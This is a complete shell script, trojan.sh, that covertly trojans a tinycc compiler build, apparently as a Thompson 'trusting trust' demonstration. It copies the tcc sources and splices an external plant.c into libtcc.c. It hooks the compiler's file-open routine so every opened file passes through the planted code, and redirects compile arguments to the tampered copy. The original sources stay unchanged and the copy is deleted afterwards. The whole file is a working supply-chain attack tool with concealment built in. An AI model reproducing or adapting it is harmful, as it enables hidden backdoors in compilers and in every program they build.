#!/bin/sh
# trojan.sh compiles like its first argument and the options after it, but plants
# plant.c in tinycc: the sources stay as they are, a changed copy is compiled.
set -eu
here=${0%/*}
copy=$PWD/planted
cp -R tcc "$copy"
{
	sed '/^static int _tcc_open(/,$d' tcc/libtcc.c
	printf 'static const char planted[] = {'
	od -An -v -tu1 "$here/plant.c" | sed 's/\([0-9][0-9]*\)/\1,/g'
	echo '0};'
	cat "$here/plant.c"
	sed -n '/^static int _tcc_open(/,$p' tcc/libtcc.c |
		sed 's/fd = open(filename, O_RDONLY | O_BINARY);/fd = plant(open(filename, O_RDONLY | O_BINARY));/'
} >"$copy/libtcc.c"
for arg; do
	shift
	case $arg in
	-Itcc | tcc/*) arg=$(echo "$arg" | sed 's,tcc,planted,') ;;
	esac
	set -- "$@" "$arg"
done
"$@"
rm -r "$copy"
